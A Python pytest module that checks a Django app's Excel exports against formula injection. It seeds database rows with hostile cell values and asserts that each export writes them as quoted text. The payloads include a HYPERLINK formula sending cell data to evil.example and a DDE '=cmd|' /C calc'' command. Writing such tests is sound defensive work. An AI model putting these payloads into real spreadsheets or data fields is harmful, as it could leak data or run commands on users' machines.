"""DESIGN rule 10, text out (issue 11 findings 3 and 4): every export survives whatever text is
stored and writes it as text. Old rows are poisoned directly in the database, past the input
cleaning, with control characters and formula prefixes in every free-text field; every export is
then downloaded and opened with openpyxl: no 500, no formula cell, the text readable as stored."""

from __future__ import annotations

import io
import itertools
import re
from typing import Any

import pytest
from django.db import connection, models
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from shequ.cases.models import Case, CaseCategory, CaseStatus, HandlerUnit
from shequ.cases.testing import CaseWorld, advance, build_case_world, report
from shequ.places.models import Area, Grid
from shequ.registry.models import Building, Dwelling, Household, ImportJob, ImportStatus, Resident

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
FORMULAS = [HYPERLINK, "=1+1", "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]
CONTROL = "\x1b\x07\x00" if connection.vendor == "sqlite" else "\x1b\x07"  # PostgreSQL refuses NUL
ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
# Columns that scope rows, find them, or hold codes and secrets: not free text.
KEPT = {"area_path", "token", "number", "code"}


def _free_text(model: type[models.Model]) -> list[models.Field[Any, Any]]:
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and not f.unique
        and f.name not in KEPT
        and not f.name.endswith(("_cipher", "_digest"))
    ]


def poison(queryset: models.QuerySet[Any]) -> None:
    """Every free-text field of every row: a formula, then control characters (as old data may be)."""
    formulas = itertools.cycle(FORMULAS)
    for pk in queryset.values_list("pk", flat=True):
        values = {}
        for f in _free_text(queryset.model):
            text = next(formulas)
            limit = f.max_length or 10_000
            values[f.name] = (text[: max(limit - len(CONTROL), 1)] + CONTROL)[:limit]
        queryset.model.objects.filter(pk=pk).update(**values)


def open_export(response: Any) -> list[list[Any]]:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = []
    for ws in load_workbook(io.BytesIO(response.content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
            rows.append([cell.value for cell in row])
    return rows


def texts(rows: list[list[Any]]) -> set[str]:
    return {v for row in rows for v in row if isinstance(v, str)}


@pytest.fixture
def world(county: Any, settings: Any, tmp_path: Any) -> CaseWorld:
    settings.MEDIA_ROOT = tmp_path
    world = build_case_world(county)
    for _ in range(2):
        report(world)
    advance(world, report(world), CaseStatus.DISPATCHED)  # a unit with a case, for the figures by unit
    for model in (Resident, Household, Dwelling, Building, Grid, Area, Case, CaseCategory, HandlerUnit):
        poison(model.objects.all())
    return world


@pytest.fixture
def admin(client: Client, world: CaseWorld) -> Client:
    client.force_login(world.admin)
    return client


@pytest.mark.parametrize(
    ("name", "params"),
    [
        ("registry:residents_export", {}),
        ("registry:households_export", {}),
        ("registry:buildings_export", {}),
        ("cases:export", {}),
        ("cases:figures_export", {"by": "community"}),
        ("cases:figures_export", {"by": "unit"}),
        ("cases:figures_export", {"by": "category"}),
    ],
)
def test_every_list_export_writes_stored_text_as_text(
    admin: Client, name: str, params: dict[str, str]
) -> None:
    rows = open_export(admin.get(reverse(name), params))
    assert len(rows) > 1
    found = texts(rows)
    assert not any(ILLEGAL.search(v) for v in found)
    # The poisoned text reads as it was stored, minus its control characters.
    assert found & {HYPERLINK, "=1+1", "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-2+3"}


def test_the_case_export_keeps_every_poisoned_field_readable(admin: Client, world: CaseWorld) -> None:
    case = Case.objects.order_by("pk").first()
    assert case is not None
    rows = open_export(admin.get(reverse("cases:export")))
    row = next(r for r in rows if r[0] == case.number)
    for value in (case.description, case.address, case.reporter_name):
        assert value.rstrip(CONTROL) in row
    assert case.description.rstrip(CONTROL) in FORMULAS


def test_numbers_stay_numbers(admin: Client, world: CaseWorld) -> None:
    rows = open_export(admin.get(reverse("cases:figures_export"), {"by": "community"}))
    numbers = [v for row in rows[1:] for v in row if isinstance(v, int | float)]
    assert numbers and 3 in numbers  # the three reports, counted as a number, not as text


def test_the_import_error_report_writes_what_the_file_held_as_text(admin: Client, world: CaseWorld) -> None:
    job = ImportJob.objects.create(
        created_by=world.admin,
        original_name="=1+1.xlsx",
        status=ImportStatus.DONE,
        failed=1,
        errors=[{"row": 2, "column": "=cmd|' /C calc'!A0\x1b", "reason": HYPERLINK + "\x07"}],
    )
    rows = open_export(admin.get(reverse("registry:import_errors", args=[job.pk])))
    assert rows[1] == [2, "=cmd|' /C calc'!A0", HYPERLINK]
